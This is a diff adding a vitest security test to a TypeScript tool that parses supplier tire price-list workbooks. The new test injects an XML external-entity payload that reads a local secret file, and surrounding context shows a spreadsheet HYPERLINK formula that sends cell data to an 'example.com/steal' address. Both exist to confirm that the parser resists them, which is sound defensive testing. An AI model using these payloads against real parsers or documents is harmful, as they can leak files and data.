@@ -1,6 +1,9 @@
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
 import { expect, test } from 'vitest';
 import { ENGLISH_SHEETS, frenchCsv, MONTREAL, otherWorkbook, xlsx, type Cells } from '../../../tests/supplier-lists.ts';
-import { zip } from '../../../tests/zip-parts.ts';
+import { unzip, zip } from '../../../tests/zip-parts.ts';
 import type { ListedTire } from '../../suppliers/listed-tire.ts';
 import { checkArchive } from './archive-check.ts';
 import { readPriceList } from '../price-list/check.ts';
@@ -113,6 +116,22 @@ test('a formula is the value that is stored with it', async () => {
   Object.assign(book.Sheets.List!, { G2: { t: 'n', v: 101.5, f: 'HYPERLINK("https://example.com/steal?"&A2)' } });
   const { rows } = await rowsOf(write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer, english);
   expect(rows[0]!.cost).toBe('101.50');
+});
+
+test('a workbook’s XML names no other file, and its entities stand for nothing', async () => {
+  const secret = path.join(mkdtempSync(path.join(tmpdir(), 'entities-')), 'secret');
+  writeFileSync(secret, 'TOP-SECRET');
+  const parts = unzip(await xlsx(ENGLISH_SHEETS));
+  const hostile = (xml: string) =>
+    xml
+      .replace('?>', `?><!DOCTYPE x [<!ENTITY file SYSTEM "file://${secret}"><!ENTITY twice "&file;&file;">]>`)
+      .replaceAll('Celsius II', '&file;&twice;');
+  for (const [name, content] of Object.entries(parts)) parts[name] = Buffer.from(hostile(content.toString()));
+  const list = await openListFile({ file: 'list.xlsx', bytes: zip(parts), sheet: 'Price list' });
+  const cells: string[] = [];
+  for await (const record of list.records()) cells.push(...record.cells);
+  expect(cells).toContain('Toyo');
+  expect(cells.join(' ')).not.toMatch(/TOP-SECRET|Celsius/);
 });
 
 test('an archive that unpacks to more than fits is refused before it is read, whatever size it states', async () => {
